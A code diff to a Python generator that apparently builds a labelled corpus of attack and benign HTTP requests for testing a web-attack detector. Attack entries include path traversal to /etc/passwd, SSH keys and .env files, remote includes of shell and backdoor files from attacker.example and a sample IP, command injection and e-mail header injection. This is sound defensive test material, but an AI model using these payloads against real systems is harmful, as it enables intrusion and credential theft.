@@ -196,8 +196,8 @@ CTX = {
                       params=["file", "path", "name", "doc", "template", "lang"],
                       pathfmt="/api/v1/static/{}", header="X-Template", cookie="theme"),
     "rfi": dict(fields=["template_url", "include", "page", "module", "plugin"],
-                json=[("POST", "/api/v1/pages/render"), ("PUT", "/api/v1/plugins/config")],
-                get=["/index.php", "/api/v1/page", "/cms/view.php"],
+                json=[("POST", "/index.php"), ("POST", "/admin/plugins.php")],
+                get=["/index.php", "/wiki/doku.php", "/cms/view.php"],
                 params=["page", "file", "include", "template", "module", "inc"],
                 pathfmt="/api/v1/include/{}", header="X-Page", cookie="skin"),
     "cmdi": dict(fields=["host", "filename", "branch", "target", "options", "hostname"],
@@ -253,17 +253,17 @@ class Placer:
         items = self.c[key]
         return items[(self.n // 2) % len(items)]
 
-    def place(self, loc, p):
+    def place(self, loc, p, field=None):
         self.n += 1
         c = self.c
-        if loc.startswith("json"):  # json, json-u (\uXXXX evasion of the markup characters)
-            method, path = self.pick("json")
-            shape = JSON_SHAPES[self.n % len(JSON_SHAPES)](self.pick("fields"))
-            esc = "<>'\"$(){}/;=&|`" if loc == "json-u" else ""
-            return json_req(method, path, shape, p, escape=esc)
         if loc == "json-key":
             method, path = self.pick("json")
-            return json_req(method, path, {"filter": {MARK: "asc"}, "page": 1}, p)
+            return json_req(method, path, {"sort": {MARK: "asc"}, "page": 1}, p)
+        if loc in ("json", "json-u"):  # json-u: \uXXXX evasion of the markup characters
+            method, path = self.pick("json")
+            shape = JSON_SHAPES[self.n % len(JSON_SHAPES)](field or self.pick("fields"))
+            esc = "<>'\"$(){}/;=&|`" if loc == "json-u" else ""
+            return json_req(method, path, shape, p, escape=esc)
         if loc.startswith("query-name"):
             return request("GET", f"{self.pick('get')}?{url_enc(p, 'browser')}=1&page=1", base_headers())
         if loc.startswith("query"):  # query, query-full, query-plus, query-double, query-u, query-raw
@@ -297,10 +297,10 @@ class Placer:
         raise ValueError(loc)
 
 
-# Attack payloads, one entry per case: (payload, note, location) with location None to rotate
-# over the family's default positions.
-def A(payload, note, loc=None):
-    return (payload, note, loc)
+# Attack payloads, one entry per case: (payload, note, location, field) with location None to
+# rotate over the family's default positions, field None to rotate over its field names.
+def A(payload, note, loc=None, field=None):
+    return (payload, note, loc, field)
 
 
 SQLI = [
@@ -431,7 +431,7 @@ TRAVERSAL = [
     A("/proc/self/environ", "process environment"),
     A("php://filter/convert.base64-encode/resource=../config.php", "PHP filter wrapper"),
     A("../../../../var/log/nginx/access.log", "log file read (log poisoning)"),
-    A("..%u2216..%u2216windows%u2216win.ini", "%u-encoded division slash", "query-raw"),
+    A("..%u2216..%u2216windows%u2216win.ini", "%u-encoded set minus (best-fit mapped to a backslash)", "query-raw"),
     A("/..%2f..%2f..%2f..%2fetc/passwd", "encoded traversal in a path segment", "path-raw"),
     A("../../../../root/.ssh/id_rsa", "SSH private key"),
     A("../../../app/.env", "application secrets file"),
@@ -461,9 +461,10 @@ RFI = [
     A("expect://id", "expect wrapper"),
     A("http:%2f%2fattacker.example%2fshell.txt%3f", "encoded remote include", "query-raw"),
     A("https://attacker.example/backdoor.txt?", "in a form field", "form"),
-    A("http://203.0.113.50/r57.txt??", "remote include by IP", "json"),
+    A("http://203.0.113.50/r57.txt??", "remote include by IP", "query"),
 ]
-RFI_LOCS = ["query", "json", "form", "cookie", "query-full"]
+# PHP reads includes from $_GET, $_POST and $_COOKIE: RFI travels in query, form and cookie values.
+RFI_LOCS = ["query", "form", "cookie", "query-full"]
 
 CMDI = [
     A("; cat /etc/passwd", "semicolon"),
@@ -612,8 +613,8 @@ CRLF = [
     A("%0aLocation:%20//attacker.example", "LF only", "query-raw"),
     A("%u000d%u000aSet-Cookie:%20a=b", "%u-encoded CRLF", "query-raw"),
     A("%250d%250aSet-Cookie:%20a=b", "double-encoded CRLF", "query-raw"),
-    A("user@example.com\r\nBcc: victims@attacker.example", "e-mail header injection", "json"),
-    A("Your invoice\nBcc: list@attacker.example", "e-mail header injection with LF", "json"),
+    A("user@example.com\r\nBcc: victims@attacker.example", "e-mail header injection", "json", "reply_to"),
+    A("Your invoice\nBcc: list@attacker.example", "e-mail header injection with LF", "json", "subject"),
     A("en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html", "full response splitting", "query-raw"),
     A("report.csv\r\nContent-Type: text/html", "CRLF in a filename used in Content-Disposition", "form"),
 ]
@@ -846,6 +847,110 @@ I18N = [
     "Très bien, mais la livraison a pris 5 jours ; dommage.", "Ótimo custo-benefício 👌 chegou antes do prazo", "Jätte bra! Snabb leverans 🚚💨",
 ]
 
+LONG_DOCS = [
+    """# Oak dining table, extendable (6-10 seats)
+
+Made from solid European oak with an oiled finish, this table seats six and extends to ten with two
+butterfly leaves stored under the top. Each leaf drops into place in seconds; no tools needed.
+
+## Dimensions
+- Closed: 180 x 95 cm, height 76 cm
+- Open: 280 x 95 cm
+- Weight: 62 kg (delivered in two boxes)
+
+## Care
+Wipe with a damp cloth and dry straight away. Re-oil once a year, or whenever water no longer beads
+on the surface. Avoid placing hot pans directly on the top; use a trivet. Small marks can be
+removed with fine (240 grit) sandpaper followed by a fresh coat of oil.
+
+## Delivery and assembly
+Two-person delivery to the room of your choice. Assembly takes about 30 minutes: attach the four
+legs with the bolts supplied (an Allen key is included) and tighten them again after a week.
+Select a delivery slot at checkout; you can change it up to 48 hours before delivery.
+
+## Warranty
+Five years on the frame and top. The warranty does not cover damage from misuse, from direct
+sunlight (oak darkens naturally over time) or from drying out near a radiator.
+""",
+    """# Terms of sale (summary)
+
+1. Orders. Placing an order is an offer to buy. We accept it when we send the dispatch e-mail;
+   until then we may cancel an order, for example if an item is out of stock or mispriced.
+2. Prices. All prices include VAT at the applicable rate. Delivery charges are shown at checkout
+   before you pay. Promotional codes cannot be combined unless the promotion says otherwise.
+3. Returns. You may return most items within 30 days of delivery for a full refund. Items must
+   be unused and in their original packaging. Made-to-order items, personalised items and opened
+   software cannot be returned unless faulty. To start a return, select the order in your account,
+   choose "Return items" and print the label; drop the parcel off at any post office.
+4. Refunds are made to the original payment method within 14 days of us receiving the return.
+5. Faulty goods. If an item is faulty, contact us within 30 days for a refund, or at any time within
+   the warranty period for a repair or replacement. This does not affect your statutory rights.
+6. Liability. Nothing in these terms limits liability for death or personal injury caused by
+   negligence, or for fraud. Otherwise our total liability is limited to the price of the order.
+7. Governing law. These terms are governed by the laws of Ireland; the courts of Ireland have
+   non-exclusive jurisdiction.
+""",
+    """# Release notes, app version 5.12
+
+New
+- Dark mode follows the system setting, or can be set by hand under Settings > Appearance.
+- Order history can now be sorted by date, total or status, and filtered by year.
+- You can select several items in your wishlist and move them to the cart in one go.
+
+Improved
+- Checkout is faster: we now load the payment options while you enter your address.
+- Search understands brand names with apostrophes (O'Neill, L'Oréal) and accents.
+- The delete button on saved addresses asks for confirmation first.
+
+Fixed
+- Fixed a crash when the union of two discount codes was larger than the order total.
+- Fixed the "drop-off point" map on small screens.
+- Fixed notifications arriving twice on some Android 14 devices.
+- Fixed a rare issue where the app showed "system error" instead of the real message from the bank.
+
+Known issues
+- On iOS 16 the share sheet may open behind the keyboard. Tap outside the text field to close it.
+""",
+    """# Our sustainability report 2023 (abridged)
+
+Where our wood comes from: every piece of oak, ash and walnut we used in 2023 came from forests
+certified by FSC or PEFC. We visited 14 of our 22 sawmills in person and published the list of all
+of them on our website. Select suppliers also share the GPS coordinates of the stands they harvest.
+
+Packaging: we removed 38 tonnes of plastic from our packaging, replacing foam corners with moulded
+pulp and bubble wrap with corrugated paper. 96% of our packaging by weight is now recyclable at
+home. Where recycling is not available, customers can drop packaging back at any of our stores.
+
+Transport: deliveries within cities are made with electric vans in Dublin, Cork and Galway; in 2024
+we will add Belfast and Limerick. Our emissions from transport fell by 18% per order.
+
+Repair and reuse: our repair service fixed 2,410 pieces of furniture, and our second-hand marketplace
+found new homes for 5,870 items. Customers who sell back a table get store credit worth up to 40%
+of the original price, depending on condition.
+
+What we did not achieve: we aimed to power all our warehouses with renewable electricity by the end
+of 2023; we reached 81%. The remaining sites will switch when their current contracts end in 2024.
+""",
+    """# How to choose a mattress
+
+Firmness is personal, but a few rules of thumb help. Side sleepers usually prefer medium-soft
+mattresses that let the shoulder and hip sink in; back sleepers medium-firm; front sleepers firm,
+so that the hips do not sag. If you share a bed and disagree, a zip-and-link pair lets each side
+choose its own firmness.
+
+Materials: memory foam moulds to the body and isolates movement, but some people find it warm.
+Pocket springs breathe better and feel bouncier. Hybrids combine a layer of foam with springs.
+Latex is naturally springy and durable, and more expensive.
+
+Size: measure the bed frame, not the old mattress, since old mattresses compress. Leave at least
+a couple of centimetres of room so that bedding can be tucked in.
+
+Trial: every mattress comes with a 100-night trial. If it is not right, we collect it for free and
+refund you in full; returned mattresses are donated to charity or recycled, never resold.
+Whatever you choose, turn or rotate it every three months for the first year, then twice a year.
+""",
+]
+
 WEBSITES = ["https://www.linkedin.com/in/jane-doe-4b2a1", "https://github.com/octocat", "https://acme-corp.com/about?ref=profile",
             "https://en.wikipedia.org/wiki/SQL_injection", "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
             "https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0",
@@ -879,11 +984,11 @@ def benign_cases():
     add = lambda kind, req, note: out.append((kind, req, note))
 
     # --- CRUD on users, orders, payments, products -----------------------------------------
-    for i in range(40):
+    for i in range(75):
         f, l, email = person()
         uid, oid = RNG.randrange(1000, 99999), uuid()
         city, cc, zipc = RNG.choice(CITIES)
-        k = i % 10
+        k = i % 15
         if k == 0:
             add("crud", request("GET", f"/api/v1/users/{uid}", base_headers()), "fetch a user")
         elif k == 1:
@@ -911,8 +1016,23 @@ def benign_cases():
         elif k == 8:
             add("crud", json_req("POST", f"/api/v1/orders/{oid}/refunds", {"amount": 2500, "reason": "damaged", "items": [{"sku": RNG.choice(SKUS), "qty": 1}],
                                                                             "comment": "Box arrived crushed; customer sent photos."}), "refund part of an order")
-        else:
+        elif k == 9:
             add("crud", request("HEAD", f"/api/v1/invoices/INV-2024-{uid:06d}.pdf", base_headers(accept="application/pdf")), "check an invoice exists")
+        elif k == 10:
+            add("crud", json_req("POST", "/api/v1/orders", {"customer_id": uid, "currency": "EUR", "coupon_code": RNG.choice(["SUMMER-25", "WELCOME10", "VIP_2024"]),
+                                                             "items": [{"sku": RNG.choice(SKUS), "qty": RNG.randrange(1, 4), "unit_price": "19.99"} for _ in range(RNG.randrange(1, 4))],
+                                                             "shipping": {"method": "express", "address": {"name": f"{f} {l}", "line1": RNG.choice(STREETS), "city": city, "postal_code": zipc, "country": cc}},
+                                                             "gift_message": "Happy birthday! Love, Mum & Dad xx"}), "place an order")
+        elif k == 11:
+            add("crud", request("GET", f"/api/v1/users/{uid}/orders?status={RNG.choice(STATUSES)}&page={RNG.randrange(1, 9)}&per_page=20&sort=-placed_at", base_headers()), "list a user's orders")
+        elif k == 12:
+            add("crud", json_req("PUT", "/api/v1/users/me/preferences", {"notifications": {"email": True, "sms": False, "push": {"order_updates": True, "promotions": False}},
+                                                                           "theme": "system", "language": RNG.choice(["en-GB", "fr-FR", "de-DE", "ja-JP"]), "currency": "EUR"}), "update preferences")
+        elif k == 13:
+            add("crud", json_req("POST", "/api/v1/subscriptions", {"plan": RNG.choice(["pro-annual", "team-monthly", "starter"]), "seats": RNG.randrange(1, 50), "trial": True,
+                                                                    "billing_email": email, "po_number": f"PO-{uid}/2024"}), "start a subscription")
+        else:
+            add("crud", json_req("PATCH", "/api/v1/products", [{"id": uid + j, "stock": RNG.randrange(0, 500), "price": round(RNG.uniform(1, 300), 2)} for j in range(5)]), "bulk stock update")
 
     # --- search, filters, pagination, sorting, JSON:API, OData, Elasticsearch DSL -------------
     searches = [
@@ -946,6 +1066,18 @@ def benign_cases():
         "/api/v1/tickets?assignee=me&status=open,pending&q=refund+not+received&sort=-updated_at",
         "/api/v1/products?price[gte]=10&price[lte]=50&rating[gte]=4",
         "/api/v1/logs?level=error&message=timeout%20while%20executing%20query&limit=100",
+        "/api/v1/products?sort=-rating,price&page=1&per_page=24&brand=L%27Or%C3%A9al",
+        "/api/v1/orders?fields=id,total,status&expand=customer&q=O%27Brien",
+        "/api/v1/customers?filter=status%3Aactive%20AND%20country%3AIE&sort=name%3Aasc",
+        "/api/v1/jobs?state=failed&state=retrying&queue=emails&order=desc&before=2024-05-14T08%3A00%3A00Z",
+        "/api/v1/catalog?category=home%2Fkitchen%2Fcookware&min_rating=4&sort=best_selling",
+        "/api/v1/search?q=drop-leaf+table&color=white&color=natural",
+        "/api/v1/search?q=exec+chair+lumbar+support",
+        "/api/v1/search?q=alert+bracelet+medical",
+        "/api/v1/search?q=system+of+a+down+t-shirt",
+        "/api/v1/search?q=shell+jacket+waterproof",
+        "/api/v1/kb/articles?q=how+to+delete+an+order+and+select+a+new+delivery+date",
+        "/api/v1/products?q=&category=&page=1",
     ]
     for s in searches:
         add("search", request("GET", s, base_headers()), "search, filter, sort or paginate")
@@ -983,7 +1115,7 @@ def benign_cases():
         ("mutation UpdateProfile($input: UpdateProfileInput!) {\n  updateProfile(input: $input) { user { id displayName bio } errors { field message } }\n}", {"input": {"displayName": "Siobhán O'Brien", "bio": "Coffee, code & cats. I select my words carefully."}}, "UpdateProfile"),
         ("query Product($id: ID!, $withReviews: Boolean = false) {\n  product(id: $id) { id name price { amount currency } reviews(first: 5) @include(if: $withReviews) { body rating } }\n}", {"id": "UHJvZHVjdDoxMDQy", "withReviews": True}, "Product"),
         ("mutation DeleteItem($id: ID!) { deleteCartItem(id: $id) { cart { id itemCount } } }", {"id": "Q2FydEl0ZW06OTk="}, "DeleteItem"),
-        ("query Search($q: String!) { search(query: $q, first: 10) { ... on Product { id name } ... on Article { id title } } }", {"q": "union select chairs"}, "Search"),
+        ("query Search($q: String!) { search(query: $q, first: 10) { ... on Product { id name } ... on Article { id title } } }", {"q": "ergonomic chairs under 200"}, "Search"),
         ("fragment UserParts on User { id name avatarUrl }\nquery Me { me { ...UserParts orders(last: 3) { id } } }", {}, "Me"),
         ("mutation CreateTicket($t: TicketInput!) { createTicket(input: $t) { id status } }", {"t": {"subject": "Can't delete my old address", "body": "When I click delete nothing happens; I have to select another default first?"}}, "CreateTicket"),
         ("query { __typename }", {}, None),
@@ -1001,7 +1133,8 @@ def benign_cases():
 
     # --- auth: OAuth, login, tokens -------------------------------------------------------------
     passwords = ["correct horse battery staple", "Tr0ub4dor&3", "S3cure#Pass;2024", "hunter2hunter2", "P@ss'w0rd!", "my \"secret\" phrase 42",
-                 "Ünïcødé-pässwörd", "<3kittens<3", "12345678aA!", "pa$$w0rd-with-dollars", "--NoSpacesAllowed--", "a=b&c=d;e"]
+                 "Ünïcødé-pässwörd", "<3kittens<3", "12345678aA!", "pa$$w0rd-with-dollars", "--NoSpacesAllowed--", "a=b&c=d;e",
+                 "Summer2024!", "(Parenthesised)Pass9", "*StarsAndStripes*", "Zaq1@wsx", "~tilde~and`backtick`", "Ñandú-Pässe-77"]
     for i, pw in enumerate(passwords):
         f, l, email = person()
         if i % 3 == 0:
@@ -1012,9 +1145,15 @@ def benign_cases():
         else:
             add("auth", json_req("POST", "/api/v1/auth/register", {"email": email, "password": pw, "password_confirmation": pw, "first_name": f, "last_name": l, "accept_terms": True},
                                  headers=base_headers(auth=False)), "sign-up")
-    for i in range(12):
-        k = i % 6
-        if k == 0:
+    for i in range(18):
+        k = i % 9
+        if k == 6:
+            add("auth", json_req("POST", "/api/v1/auth/mfa/verify", {"challenge_id": uuid(), "code": f"{RNG.randrange(10**6):06d}", "remember_device": True}), "MFA code")
+        elif k == 7:
+            add("auth", json_req("POST", "/api/v1/auth/password/reset", {"email": person()[2]}, headers=base_headers(auth=False)), "password reset request")
+        elif k == 8:
+            add("auth", request("POST", "/api/v1/auth/logout", base_headers() + [["Cookie", f"refresh_token={b64url(RNG.randbytes(40))}; Path=/"]]), "logout")
+        elif k == 0:
             add("auth", form_req("POST", "/oauth/token", [("grant_type", "authorization_code"), ("code", b64url(RNG.randbytes(24))), ("redirect_uri", "https://app.shop.example/callback"),
                                                            ("client_id", "web-spa"), ("code_verifier", b64url(RNG.randbytes(32)))], headers=base_headers(auth=False)), "OAuth code exchange with PKCE")
         elif k == 1:
@@ -1089,7 +1228,7 @@ def benign_cases():
     add("upload", json_req("POST", "/api/v1/documents", {"name": "contract.pdf", "content_base64": base64.b64encode(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n" * 4).decode()}), "base64 PDF in JSON")
 
     # --- names, addresses, companies ----------------------------------------------------------
-    for i in range(44):
+    for i in range(60):
         f, l, email = person()
         city, cc, zipc = CITIES[i % len(CITIES)]
         k = i % 5
@@ -1149,12 +1288,14 @@ def benign_cases():
             add("urls", request("GET", "/api/v1/link-preview?" + urlencode({"url": url}), base_headers()), "link preview of a public URL")
     for nxt in ["/account/orders?page=2", "https://app.shop.example/dashboard?tab=orders&sort=-created_at", "/checkout/step-2#payment", "https://shop.example/p/oak-chair"]:
         add("urls", request("GET", "/api/v1/session/continue?" + urlencode({"next": nxt}), base_headers()), "post-login redirect target")
+    for host in ["status.example.com", "www.bbc.co.uk", "news.ycombinator.com", "10.example.org"]:
+        add("urls", json_req("POST", "/api/v1/monitors", {"name": "Homepage", "url": f"https://{host}/", "interval_s": 60, "expect_status": 200}), "uptime monitor on a public host")
     for e in ["first.last+tag@sub.example.co.uk", "o'brien@example.ie", "\"quoted local\"@example.com", "user%team@example.org", "ceo@union-select.example"]:
         add("urls", json_req("POST", "/api/v1/invites", {"email": e, "role": "viewer"}), "unusual but valid e-mail address")
     add("urls", request("GET", "/api/v1/users?email=" + quote("anna.o'neill@example.com", safe=""), base_headers()), "e-mail lookup")
 
     # --- identifiers, dates, numbers, tokens -------------------------------------------------------
-    for i in range(26):
+    for i in range(39):
         k = i % 13
         h = base_headers()
         if k == 0:
@@ -1185,13 +1326,15 @@ def benign_cases():
             add("identifiers", request("GET", "/api/v1/orders?created_at[gte]=2024-01-01&created_at[lt]=2024-02-01&total[gt]=99.99", h), "range filters in brackets")
 
     # --- long texts ----------------------------------------------------------------------------
-    for i in range(10):
-        paras = [RNG.choice(PROSE) for _ in range(30 + 10 * i)]
-        text = "\n\n".join(" ".join(paras[j:j + 3]) for j in range(0, len(paras), 3))
+    for i in range(5):
+        sentences = RNG.sample(PROSE, 12 + 9 * i)
+        text = "\n\n".join(" ".join(sentences[j:j + 3]) for j in range(0, len(sentences), 3))
+        add("long-text", json_req("POST", "/api/v1/support/tickets", {"subject": "Several problems with my order", "body": text}), "long support ticket")
+    for i, doc in enumerate(LONG_DOCS):
         if i % 2:
-            add("long-text", json_req("PUT", f"/api/v1/products/{1000 + i}", {"name": "Oak dining table", "description_markdown": "## Details\n\n" + text, "sku": "TABLE-OAK-" + str(i)}), "long product description")
+            add("long-text", json_req("PUT", f"/api/v1/products/{1000 + i}", {"name": doc.split("\n")[0].lstrip("# "), "description_markdown": doc, "sku": f"LONG-{i}"}), "long product description")
         else:
-            add("long-text", json_req("POST", "/api/v1/support/tickets", {"subject": "Long complaint about my order", "body": text}), "long support ticket")
+            add("long-text", json_req("POST", "/api/v1/cms/pages", {"slug": f"page-{i}", "title": doc.split("\n")[0].lstrip("# "), "body_markdown": doc, "published": True}), "long CMS page")
     return out
 
 
@@ -1214,9 +1357,9 @@ def main():
     recs = []
     for fam, payloads, locs in FAMILIES:
         placer = Placer(fam)
-        for i, (p, note, loc) in enumerate(payloads):
+        for i, (p, note, loc, field) in enumerate(payloads):
             loc = loc or locs[i % len(locs)]
-            recs.append(record(f"api-{fam}-{i + 1:03d}", "attack", f"attack:{fam}", placer.place(loc, p), fam, loc, note))
+            recs.append(record(f"api-{fam}-{i + 1:03d}", "attack", f"attack:{fam}", placer.place(loc, p, field), fam, loc, note))
     for fam, build in [("nosqli", nosql_cases), ("xxe", xxe_cases), ("smuggling", smuggling_cases), ("scanner", scanner_cases)]:
         for i, (req, note, loc) in enumerate(build()):
             recs.append(record(f"api-{fam}-{i + 1:03d}", "attack", f"attack:{fam}", req, fam, loc, note))
